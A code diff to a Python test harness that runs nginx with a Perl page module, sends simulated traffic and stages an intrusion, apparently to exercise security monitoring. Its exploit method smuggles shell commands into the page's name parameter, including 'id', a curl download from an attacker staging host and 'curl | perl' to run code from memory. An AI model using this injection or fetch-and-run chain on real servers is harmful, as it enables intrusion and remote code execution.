@@ -3,6 +3,7 @@
 import contextlib
 import http.client
 import random
+import signal
 import threading
 import time
 import urllib.parse
@@ -27,7 +28,7 @@ http {{
     perl_modules {folder};
     perl_require pages.pm;
     server {{
-        listen 127.0.0.1:{port};
+        listen {address}:{port};
         root {folder}/www;
         location /page {{ perl pages::show; }}
     }}
@@ -62,18 +63,24 @@ class Nginx(Service):
 
     name = "nginx"
     packages = "nginx-light libnginx-mod-http-perl curl"
+    ended_by = signal.SIGQUIT  # as its systemd unit does
 
-    def start(self) -> None:
-        """Start it and return when it answers."""
+    def prepare(self) -> None:
+        """Write its configuration and pages."""
         pages = self.folder / "www"
         pages.mkdir()
         for name, size in (("index.html", 600), ("about.html", 3_000), ("photo.jpg", 200_000)):
             (pages / name).write_bytes(b"x" * size)
         (self.folder / "pages.pm").write_text(_PAGES.replace("FOLDER", str(self.folder)))
-        configuration = self.folder / "nginx.conf"
-        configuration.write_text(_CONFIGURATION.format(folder=self.folder, port=self.port))
+        self.configuration = self.folder / "nginx.conf"
+        self.configuration.write_text(
+            _CONFIGURATION.format(folder=self.folder, address=self.address, port=self.port)
+        )
         _open_to_workers(self.folder)
-        self.cgroup.start(["/usr/sbin/nginx", "-c", configuration])
+
+    def launch(self) -> None:
+        """Start it and return when it answers."""
+        self.process = self.cgroup.start(["/usr/sbin/nginx", "-c", self.configuration])
         self.await_port()
 
     def work(self, stop: threading.Event) -> None:
@@ -88,7 +95,9 @@ class Nginx(Service):
         paths = ["/", "/about.html", "/photo.jpg", "/page?name=about.html", "/missing"]
         connection: http.client.HTTPConnection | None = None
         while not stop.is_set():
-            connection = connection or http.client.HTTPConnection("127.0.0.1", self.port, timeout=5)
+            connection = connection or http.client.HTTPConnection(
+                self.address, self.port, timeout=5
+            )
             try:
                 method = choose.choices(["GET", "HEAD"], [9, 1])[0]
                 connection.request(method, choose.choices(paths, [5, 3, 1, 3, 1])[0])
@@ -102,28 +111,34 @@ class Nginx(Service):
                 connection = None
             time.sleep(_PAUSE * choose.expovariate(1))
 
+    def _connection(self, timeout: float) -> http.client.HTTPConnection:
+        return http.client.HTTPConnection(self.address, self.port, timeout=timeout)
+
     @contextmanager
     def intrusion(self) -> Iterator[Sequence[Step]]:
         """Through the hole in the page: a shell, a download, a program run from memory."""
         with attacker() as stage:
             yield [
-                Step("asks the page to run a shell command", partial(self._exploit, "id")),
+                Step("asks the page to run a shell command", partial(self.exploit, "id")),
                 Step(
                     f"downloads a tool from {stage}",
-                    partial(self._exploit, f"curl -s -o /dev/null {stage}"),
+                    partial(self.exploit, f"curl -s -o /dev/null {stage}"),
                 ),
                 Step(
                     "runs a program from memory that is in no file",
-                    partial(self._exploit, f"curl -s {stage} | perl"),
+                    partial(self.exploit, f"curl -s {stage} | perl"),
                 ),
             ]
 
-    def _exploit(self, command: str) -> None:
-        connection = http.client.HTTPConnection("127.0.0.1", self.port, timeout=10)
-        name = urllib.parse.quote(f"about.html;{command}|", safe="")
-        with contextlib.closing(connection):
-            connection.request("GET", f"/page?name={name}")
-            connection.getresponse().read()
+    def exploit(self, command: str) -> bytes:
+        """Have the page run a shell command; returns the page and what the command printed."""
+        return self.page(f"about.html;{command}|")
+
+    def page(self, name: str) -> bytes:
+        """Ask for the dynamic page of this name."""
+        with contextlib.closing(self._connection(10)) as connection:
+            connection.request("GET", f"/page?name={urllib.parse.quote(name, safe='')}")
+            return connection.getresponse().read()
 
 
 def _open_to_workers(folder: Path) -> None:
